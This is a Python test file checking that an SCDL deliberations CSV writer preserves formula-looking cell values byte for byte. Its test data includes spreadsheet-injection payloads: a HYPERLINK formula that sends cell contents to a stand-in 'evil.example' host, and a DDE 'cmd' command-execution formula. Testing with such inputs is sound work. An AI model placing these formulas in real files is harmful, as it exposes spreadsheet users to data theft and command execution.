"""Formula-looking objets (``=…``, ``+…``, ``-…``, ``@…``) stay byte for byte in the SCDL CSV.

The SCDL publishes what the collectivité wrote; "defusing" a cell for spreadsheets (a leading ``'``,
a tab, a space) would change the data every reuser gets. The warning lives in the API docs instead.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from regate.actes.nomenclature import matiere_nom
from regate.scdl.csvfile import write_csv
from regate.scdl.deliberations import ScdlDeliberationRow, clean_objet, write_deliberations_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
    "+33 2 99 00 00 00 : convention de téléphonie",
    "-10 % sur les tarifs de la cantine",
    "@SUM(A1:A9) subventions",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("objet", FORMULAS)
def test_csv_writer_keeps_formula_cells(objet: str) -> None:
    data = write_csv(["DELIB_OBJET", "X"], [[objet, "1"]])
    (_header, row) = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert row == [objet, "1"]
    # the cell starts exactly where the objet starts: no quote, apostrophe or tab added before it
    # (quotes appear only when the cell holds a comma or a double quote, as in any CSV)
    cell = data.split(b"\r\n")[1].rsplit(b",1", 1)[0]
    if "," in objet or '"' in objet:
        assert cell == b'"' + objet.replace('"', '""').encode() + b'"'
    else:
        assert cell == objet.encode()


@pytest.mark.parametrize("objet", FORMULAS)
def test_deliberations_file_keeps_formula_objets(objet: str) -> None:
    assert clean_objet(objet) == objet  # on one line already: nothing to clean
    row = ScdlDeliberationRow(
        COLL_NOM="Commune de Test",
        COLL_SIRET="21350238800019",
        DELIB_ID="D2024_001",
        DELIB_DATE=date(2024, 3, 4),
        DELIB_MATIERE_CODE="7.5",
        DELIB_MATIERE_NOM=matiere_nom("7.5"),
        DELIB_OBJET=objet,
    )
    data = write_deliberations_csv([row])  # validated in strict mode on the way
    (parsed,) = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert parsed["DELIB_OBJET"] == objet
    assert objet.replace('"', '""').encode() in data
